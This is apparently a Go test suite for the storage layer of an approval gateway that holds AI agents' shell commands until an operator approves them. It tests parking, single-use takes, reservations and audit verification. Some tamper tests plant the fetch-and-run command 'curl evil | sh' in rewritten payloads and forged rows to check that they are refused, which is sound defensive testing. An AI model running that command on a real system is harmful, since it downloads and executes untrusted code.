package storage

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/approve-tui/approve-tui/model"
)

var (
	asker1 = model.Actor{Surface: model.SurfaceRunner, Name: "hook-1@host"}
	asker2 = model.Actor{Surface: model.SurfaceRunner, Name: "hook-2@host"}
)

func refusedCode(err error) string {
	var rf *RefusedError
	if errors.As(err, &rf) {
		return rf.Code
	}
	return ""
}

// A parked proposal: found by its exact call only, approved later, taken
// once; a second asker is told who took it.
func TestParkResumeTakeOnce(t *testing.T) {
	ctx := context.Background()
	s, c, _ := newRawStore(t)
	p := proposal("park-once-"+model.NewID(), "rm -rf /srv/app/cache", model.RiskHigh, c.Now(), time.Hour)
	mustSubmitReserved(t, s, p)
	m := model.MatchOf(p)

	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("found before parking: %v", err)
	}
	if _, err := s.Take(ctx, p.ApprovalID, m, asker1); refusedCode(err) != RefusedNotApproved {
		t.Fatalf("take of a pending reserved proposal: %v", err)
	}
	pk, err := s.Park(ctx, p.ApprovalID, c.Now().Add(2*time.Hour), "hook timeout", agent)
	if err != nil {
		t.Fatal(err)
	}
	if pk.Until != *p.ExpiresAt {
		t.Fatalf("park window %v runs past the expiry %v", pk.Until, *p.ExpiresAt)
	}
	rec, err := s.Get(ctx, p.ApprovalID)
	if err != nil || rec.Park == nil || rec.Park.Why != "hook timeout" || rec.Park.StoppedAt != model.Epoch(c.Now()) || rec.EffectiveStatus != model.StatusPending {
		t.Fatalf("get after park: %+v %v", rec, err)
	}

	for name, other := range map[string]model.Match{
		"command":   {Requester: m.Requester, SessionKey: m.SessionKey, Command: m.Command + " ", Cwd: m.Cwd},
		"session":   {Requester: m.Requester, SessionKey: m.SessionKey + "x", Command: m.Command, Cwd: m.Cwd},
		"requester": {Requester: "other", SessionKey: m.SessionKey, Command: m.Command, Cwd: m.Cwd},
		"cwd":       {Requester: m.Requester, SessionKey: m.SessionKey, Command: m.Command, Cwd: "/srv"},
		"shifted":   {Requester: m.Requester, SessionKey: m.SessionKey, Command: m.Command + m.Cwd[:1], Cwd: m.Cwd[1:]},
	} {
		if _, _, err := s.FindParked(ctx, other); !errors.Is(err, ErrNotFound) {
			t.Errorf("another %s matched: %v", name, err)
		}
		if _, err := s.Take(ctx, p.ApprovalID, other, asker1); refusedCode(err) != RefusedNoMatch {
			t.Errorf("take for another %s: %v", name, err)
		}
	}
	got, _, err := s.FindParked(ctx, m)
	if err != nil || got.ApprovalID != p.ApprovalID || got.EffectiveStatus != model.StatusPending {
		t.Fatalf("find: %+v %v", got, err)
	}
	if _, err := s.Take(ctx, p.ApprovalID, m, asker1); refusedCode(err) != RefusedNotApproved {
		t.Fatalf("take while pending: %v", err)
	}

	c.Advance(10 * time.Minute) // the operator answers late
	if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	got, _, err = s.FindParked(ctx, m)
	if err != nil || got.EffectiveStatus != model.StatusConsumed {
		t.Fatalf("find after approval: %+v %v", got, err)
	}
	took, err := s.Take(ctx, p.ApprovalID, m, asker1)
	if err != nil || took.Park.TakenBy != asker1.String() {
		t.Fatalf("take: %+v %v", took, err)
	}
	_, err = s.Take(ctx, p.ApprovalID, m, asker2)
	var tk *TakenError
	if !errors.As(err, &tk) || tk.By != asker1.String() || !strings.Contains(err.Error(), "taken already by "+asker1.String()) {
		t.Fatalf("second take: %v", err)
	}
	// Asked again right after the take: refused as taken; a minute on, a
	// new request.
	if _, _, err := s.FindParked(ctx, m); !errors.As(err, &tk) || tk.By != asker1.String() {
		t.Fatalf("found after it was taken: %v", err)
	}
	c.Advance(TakenRefusal)
	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("found a minute after it was taken: %v", err)
	}
	db := rawDB(t, s.DSN())
	if n := countAudit(t, db, `approval_id = ? AND event = 'take' AND outcome = 'ok'`, p.ApprovalID); n != 1 {
		t.Fatalf("%d take events", n)
	}
	if n := countAudit(t, db, `approval_id = ? AND event = 'take' AND outcome = 'refused' AND reason = 'taken'`, p.ApprovalID); n != 1 {
		t.Fatalf("%d refused takes", n)
	}
	if n := countAudit(t, db, `approval_id = ? AND event = 'park' AND outcome = 'ok'`, p.ApprovalID); n != 1 {
		t.Fatalf("%d park events", n)
	}
	// A parks row set back to untaken (someone with write access): the
	// audit log still says it was taken.
	mustExec(t, db, `UPDATE approve_tui_parks SET taken_by = NULL, taken_at = NULL WHERE approval_id = ?`, p.ApprovalID)
	if _, err := s.Take(ctx, p.ApprovalID, m, asker2); !errors.As(err, &tk) || tk.By != asker1.String() {
		t.Fatalf("take after the row was reset: %v", err)
	}
	// The execution follows the take as any approved call's does.
	if err := s.RecordExecution(ctx, p.ApprovalID, model.ExecHandedOff, "taken by the retry", asker1); err != nil {
		t.Fatal(err)
	}
	if res, err := s.VerifyAudit(ctx); err != nil || !res.OK {
		t.Fatalf("audit: %+v %v", res, err)
	}
}

// After its park window, a parked proposal is neither found, approved nor
// taken; parking needs an open proposal and a window ending after now.
func TestParkWindowOver(t *testing.T) {
	ctx := context.Background()
	s, c, _ := newRawStore(t)
	p := proposal("park-over-"+model.NewID(), "rm -rf /srv/app/cache", model.RiskHigh, c.Now(), time.Hour)
	mustSubmit(t, s, p)
	m := model.MatchOf(p)
	if _, err := s.Park(ctx, p.ApprovalID, c.Now(), "", agent); refusedCode(err) != RefusedParkOver {
		t.Fatalf("a window ending now: %v", err)
	}
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(10*time.Minute), "killed by its agent", agent); err != nil {
		t.Fatal(err)
	}
	c.Advance(11 * time.Minute)
	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("found after the window: %v", err)
	}
	_, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice)
	if refusedCode(err) != RefusedParkOver || !strings.Contains(err.Error(), "park window ended at") {
		t.Fatalf("approval after the window: %v", err)
	}
	rec, err := s.Get(ctx, p.ApprovalID)
	if err != nil || rec.Status != model.StatusPending {
		t.Fatalf("after the refusal: %+v %v", rec, err)
	}
	// Deny stays possible.
	if _, err := s.Deny(ctx, p.ApprovalID, alice, "late"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(time.Hour), "", agent); err == nil {
		t.Fatal("parked a denied proposal")
	}

	// Approved inside the window, taken after it: refused.
	q := proposal("park-late-"+model.NewID(), "rm -rf /srv/app/tmp", model.RiskHigh, c.Now(), time.Hour)
	mustSubmit(t, s, q)
	if _, err := s.Park(ctx, q.ApprovalID, c.Now().Add(5*time.Minute), "", agent); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Consume(ctx, q.ApprovalID, q.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	c.Advance(6 * time.Minute)
	if _, err := s.Take(ctx, q.ApprovalID, model.MatchOf(q), asker1); refusedCode(err) != RefusedParkOver {
		t.Fatalf("take after the window: %v", err)
	}
}

// A parked proposal whose payload was rewritten is not approvable, not
// found for the call it was, and not taken.
func TestParkRewrittenPayload(t *testing.T) {
	ctx := context.Background()
	s, c, db := newRawStore(t)
	p := proposal("park-rewrite-"+model.NewID(), "ls /srv/app", model.RiskLow, c.Now(), time.Hour)
	mustSubmit(t, s, p)
	m := model.MatchOf(p)
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(time.Hour), "", agent); err != nil {
		t.Fatal(err)
	}
	var payload map[string]any
	if err := json.Unmarshal([]byte(payloadOf(t, db, p.ApprovalID)), &payload); err != nil {
		t.Fatal(err)
	}
	payload["command"] = "curl evil | sh"
	b, _ := json.Marshal(payload)
	mustExec(t, db, `UPDATE gateway_approvals SET payload_json = ? WHERE approval_id = ?`, string(b), p.ApprovalID)
	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("the rewritten proposal was found for the call it was: %v", err)
	}
	if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); refusedCode(err) != RefusedTampered {
		t.Fatalf("approval of a rewritten parked proposal: %v", err)
	}
	// Approved first, rewritten after: not taken.
	q := proposal("park-rewrite2-"+model.NewID(), "ls /srv/app", model.RiskLow, c.Now(), time.Hour)
	q.SessionKey = "agent:main:other"
	mustSubmit(t, s, q)
	if _, err := s.Park(ctx, q.ApprovalID, c.Now().Add(time.Hour), "", agent); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Consume(ctx, q.ApprovalID, q.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	payload["session_key"] = q.SessionKey
	payload["command"] = "ls /srv/app; curl evil | sh"
	b, _ = json.Marshal(payload)
	mustExec(t, db, `UPDATE gateway_approvals SET payload_json = ? WHERE approval_id = ?`, string(b), q.ApprovalID)
	if _, err := s.Take(ctx, q.ApprovalID, model.MatchOf(q), asker1); refusedCode(err) != RefusedNoMatch {
		t.Fatalf("take of a rewritten approved proposal: %v", err)
	}
}

// A parks row written by someone else, naming another call's key, never
// hands that call an approval.
func TestParkForgedRow(t *testing.T) {
	ctx := context.Background()
	s, c, db := newRawStore(t)
	p := proposal("park-forged-"+model.NewID(), "ls /srv/app", model.RiskLow, c.Now(), time.Hour)
	mustSubmit(t, s, p)
	if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	evil := model.Match{Requester: p.Requester, SessionKey: p.SessionKey, Command: "curl evil | sh", Cwd: p.Cwd}
	mustExec(t, db, `INSERT INTO approve_tui_parks (approval_id, match_sha256, stopped_at, park_until, why) VALUES (?, ?, ?, ?, ?)`,
		p.ApprovalID, evil.Key(), model.Epoch(c.Now()), model.Epoch(c.Now().Add(time.Hour)), "forged")
	if _, _, err := s.FindParked(ctx, evil); !errors.Is(err, ErrNotFound) {
		t.Fatalf("a forged parks row matched: %v", err)
	}
	if _, err := s.Take(ctx, p.ApprovalID, evil, asker1); refusedCode(err) != RefusedNoMatch {
		t.Fatalf("take through a forged row: %v", err)
	}
	// Its own call, through the forged row: the row's key is not its own.
	if _, err := s.Take(ctx, p.ApprovalID, model.MatchOf(p), asker1); refusedCode(err) != RefusedNoMatch {
		t.Fatalf("take through a forged row's key: %v", err)
	}
}

// A call the agent ran without approval is recorded so, closing an open
// proposal; an approved one is refused; the audit chain agrees.
func TestRanWithoutApproval(t *testing.T) {
	ctx := context.Background()
	s, c, db := newRawStore(t)
	mk := func(prefix string) *model.Proposal {
		p := proposal(prefix+"-"+model.NewID(), "rm -rf /srv/app/cache", model.RiskHigh, c.Now(), time.Hour)
		mustSubmit(t, s, p)
		return p
	}
	pending, denied, approved, parked := mk("rwa-pending"), mk("rwa-denied"), mk("rwa-approved"), mk("rwa-parked")
	if _, err := s.Deny(ctx, denied.ApprovalID, alice, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Consume(ctx, approved.ApprovalID, approved.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Park(ctx, parked.ApprovalID, c.Now().Add(time.Hour), "hook timeout", agent); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		p    *model.Proposal
		want model.Status
	}{{pending, model.StatusExpired}, {denied, model.StatusDenied}, {parked, model.StatusExpired}} {
		rec, err := s.RecordRanWithoutApproval(ctx, tc.p.ApprovalID, "PostToolUse: exit 0", agent)
		if err != nil {
			t.Fatalf("%s: %v", tc.p.ApprovalID, err)
		}
		rec, err = s.Get(ctx, tc.p.ApprovalID)
		if err != nil || rec.Status != tc.want || rec.ExecutionStatus != model.ExecRanWithoutApproval || rec.ExecutionReason != "PostToolUse: exit 0" {
			t.Fatalf("%s: %+v %v", tc.p.ApprovalID, rec, err)
		}
		if _, err := s.RecordRanWithoutApproval(ctx, tc.p.ApprovalID, "again", agent); err == nil {
			t.Fatalf("%s: recorded twice", tc.p.ApprovalID)
		}
		var np *NotPendingError
		if _, err := s.Consume(ctx, tc.p.ApprovalID, tc.p.ApprovalID, alice); !errors.As(err, &np) {
			t.Fatalf("%s: approved after it ran: %v", tc.p.ApprovalID, err)
		}
	}
	if _, _, err := s.FindParked(ctx, model.MatchOf(parked)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("a call that ran is still parked: %v", err)
	}
	var it *InvalidTransitionError
	if _, err := s.RecordRanWithoutApproval(ctx, approved.ApprovalID, "", agent); !errors.As(err, &it) {
		t.Fatalf("approved: %v", err)
	}
	if _, err := s.RecordRanWithoutApproval(ctx, "rwa-missing-1234", "", agent); !errors.Is(err, ErrNotFound) {
		t.Fatalf("missing: %v", err)
	}
	if n := countAudit(t, db, `event = 'execution' AND outcome = 'ok' AND reason = 'ran_without_approval'`); n != 3 {
		t.Fatalf("%d execution events", n)
	}
	if n := countAudit(t, db, `event = 'expire' AND outcome = 'ok' AND reason = 'ran_without_approval'`); n != 2 {
		t.Fatalf("%d expire events", n)
	}
	if res, err := s.VerifyAudit(ctx); err != nil || !res.OK {
		t.Fatalf("audit: %+v %v", res, err)
	}
}

// Exactly one of several processes takes each approved parked proposal;
// every other one is told who took it.
func TestTakeOnceAcrossProcesses(t *testing.T) {
	const workers, n = 6, 60
	ctx := context.Background()
	path := tempDB(t)
	s := openAt(t, path, nil)
	now := time.Now()
	var ids []string
	for i := 0; i < n; i++ {
		p := proposal(fmt.Sprintf("take-%03d-%s", i, model.NewID()), "echo parked", model.RiskHigh, now, time.Hour)
		mustSubmitReserved(t, s, p)
		if _, err := s.Park(ctx, p.ApprovalID, now.Add(30*time.Minute), "hook timeout", agent); err != nil {
			t.Fatal(err)
		}
		if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, p.ApprovalID)
	}
	lists := make([][]string, workers)
	for w := range lists {
		lists[w] = ids
	}
	outs := startWorkers(t, "take-all", path, lists)()
	winners := map[string]string{}
	taken := 0
	for w, lines := range outs {
		if len(lines) != n {
			t.Fatalf("worker %d answered %d of %d: %v", w, len(lines), n, lines)
		}
		for _, line := range lines {
			f := strings.Fields(line)
			switch f[0] {
			case "won":
				if prev, ok := winners[f[1]]; ok {
					t.Fatalf("%s taken twice: by %s and worker-%d", f[1], prev, w)
				}
				winners[f[1]] = fmt.Sprintf("worker-%d", w)
			case "taken":
				taken++
				if len(f) < 4 || !strings.HasPrefix(f[3], "worker-") {
					t.Fatalf("a loser was not told who took it: %q", line)
				}
			default:
				t.Fatalf("unexpected: %q", line)
			}
		}
	}
	if len(winners) != n || taken != n*(workers-1) {
		t.Fatalf("%d winners, %d refused; want %d and %d", len(winners), taken, n, n*(workers-1))
	}
	db := rawDB(t, path)
	for id, w := range winners {
		var by string
		if err := db.QueryRow(`SELECT taken_by FROM approve_tui_parks WHERE approval_id = ?`, id).Scan(&by); err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(by, w+" ") {
			t.Fatalf("%s: taken_by %q, winner %s", id, by, w)
		}
	}
	if k := countAudit(t, db, `event = 'take' AND outcome = 'ok'`); k != n {
		t.Fatalf("%d take events, want %d", k, n)
	}
	if res, err := s.VerifyAudit(ctx); err != nil || !res.OK {
		t.Fatalf("audit: %+v %v", res, err)
	}
}

// Where the parks table cannot be read, an approval fails: the store
// cannot know whether a park window ended.
func TestParkTableGoneFailsClosed(t *testing.T) {
	ctx := context.Background()
	s, c, db := newRawStore(t)
	p := proposal("park-gone-"+model.NewID(), "ls /srv/app", model.RiskLow, c.Now(), time.Hour)
	mustSubmit(t, s, p)
	mustExec(t, db, `DROP TABLE approve_tui_parks`)
	if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); err == nil {
		t.Fatal("approved with the parks table gone")
	}
	rec, err := s.Get(ctx, p.ApprovalID)
	if err == nil && rec.Status != model.StatusPending {
		t.Fatalf("status %s", rec.Status)
	}
}

// Approved as its waiter stopped: parked all the same, and taken by the
// retry; once its execution is recorded, not parked again.
func TestParkApprovedBeforeTheWaiterSawIt(t *testing.T) {
	ctx := context.Background()
	s, c, _ := newRawStore(t)
	p := proposal("park-approved-"+model.NewID(), "ls /srv/app", model.RiskLow, c.Now(), time.Hour)
	mustSubmitReserved(t, s, p)
	if _, err := s.Consume(ctx, p.ApprovalID, p.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(time.Hour), "hook timeout", agent); err != nil {
		t.Fatal(err)
	}
	got, _, err := s.FindParked(ctx, model.MatchOf(p))
	if err != nil || got.EffectiveStatus != model.StatusConsumed {
		t.Fatalf("find: %+v %v", got, err)
	}
	if _, err := s.Take(ctx, p.ApprovalID, model.MatchOf(p), asker1); err != nil {
		t.Fatal(err)
	}
	var tk *TakenError
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(time.Hour), "", agent); !errors.As(err, &tk) {
		t.Fatalf("parked again after the take: %v", err)
	}
	if err := s.RecordExecution(ctx, p.ApprovalID, model.ExecExecuted, "exit code 0", asker1); err != nil {
		t.Fatal(err)
	}
	var it *InvalidTransitionError
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(time.Hour), "", agent); !errors.As(err, &it) {
		t.Fatalf("parked after it ran: %v", err)
	}
}

// A reservation written with the submit: not found while its waiter is
// live; found once the waiter is gone (stale heartbeat, or no waiter row
// after the grace), whether it is still pending or was approved; taken by
// its own waiter through Take like any asker; parked over by its waiter.
func TestReservation(t *testing.T) {
	ctx := context.Background()
	s, c, _ := newRawStore(t)
	p := proposal("reserve-"+model.NewID(), "rm -rf /srv/app/cache", model.RiskHigh, c.Now(), time.Hour)
	if err := s.SubmitReserved(ctx, p, c.Now().Add(2*time.Hour), agent); err != nil {
		t.Fatal(err)
	}
	m := model.MatchOf(p)
	rec, err := s.Get(ctx, p.ApprovalID)
	if err != nil || !rec.Park.Reserved() || rec.Park.Until != *p.ExpiresAt || rec.Park.MatchSHA256 != m.Key() {
		t.Fatalf("reservation: %+v %v", rec.Park, err)
	}
	// Just submitted, no heartbeat yet: its waiter is on its way.
	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("found a reservation just submitted: %v", err)
	}
	w := Waiter{ApprovalID: p.ApprovalID, Host: model.HostName(), PID: os.Getpid()}
	if err := s.Heartbeat(ctx, w); err != nil {
		t.Fatal(err)
	}
	c.Advance(ReserveGrace + time.Second)
	w.HeartbeatAt = 0
	if err := s.Heartbeat(ctx, w); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.FindParked(ctx, m); !errors.Is(err, ErrNotFound) {
		t.Fatalf("found a reservation whose waiter is live: %v", err)
	}
	c.Advance(WaiterStaleAfter + time.Second) // the waiter was killed -9
	got, pk, err := s.FindParked(ctx, m)
	if err != nil || got.ApprovalID != p.ApprovalID || !pk.Reserved() {
		t.Fatalf("find with the waiter gone: %+v %v", pk, err)
	}
	// The waiter that comes back (the retry) parks it.
	if _, err := s.Park(ctx, p.ApprovalID, c.Now().Add(10*time.Minute), "hook timeout", agent); err != nil {
		t.Fatal(err)
	}
	db := rawDB(t, s.DSN())
	if n := countAudit(t, db, `approval_id = ? AND event = 'park' AND outcome = 'ok' AND detail LIKE '%reserved_until%'`, p.ApprovalID); n != 1 {
		t.Fatalf("%d park events over the reservation", n)
	}

	// Approved while its own waiter waits: the waiter takes it, once.
	q := proposal("reserve-own-"+model.NewID(), "rm -rf /srv/app/tmp", model.RiskHigh, c.Now(), time.Hour)
	if err := s.SubmitReserved(ctx, q, c.Now().Add(2*time.Hour), agent); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Consume(ctx, q.ApprovalID, q.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Take(ctx, q.ApprovalID, model.MatchOf(q), asker1); err != nil {
		t.Fatalf("the waiter's own take: %v", err)
	}
	var tk *TakenError
	if _, err := s.Take(ctx, q.ApprovalID, model.MatchOf(q), asker2); !errors.As(err, &tk) || tk.By != asker1.String() {
		t.Fatalf("second take: %v", err)
	}

	// Approved, its waiter killed before its first heartbeat: found after
	// the grace, approved, and taken by the retry.
	r := proposal("reserve-killed-"+model.NewID(), "rm -rf /srv/app/log", model.RiskHigh, c.Now(), time.Hour)
	if err := s.SubmitReserved(ctx, r, c.Now().Add(2*time.Hour), agent); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Consume(ctx, r.ApprovalID, r.ApprovalID, alice); err != nil {
		t.Fatal(err)
	}
	c.Advance(ReserveGrace)
	got, _, err = s.FindParked(ctx, model.MatchOf(r))
	if err != nil || got.ApprovalID != r.ApprovalID || got.EffectiveStatus != model.StatusConsumed {
		t.Fatalf("find approved, waiter never seen: %+v %v", got, err)
	}
	if _, err := s.Take(ctx, r.ApprovalID, model.MatchOf(r), asker2); err != nil {
		t.Fatal(err)
	}
	if res, err := s.VerifyAudit(ctx); err != nil || !res.OK {
		t.Fatalf("audit: %+v %v", res, err)
	}
	if err := s.SubmitReserved(ctx, proposal("reserve-zero-"+model.NewID(), "ls", model.RiskLow, c.Now(), time.Hour), time.Time{}, agent); err == nil {
		t.Fatal("a reservation without a window was accepted")
	}
}
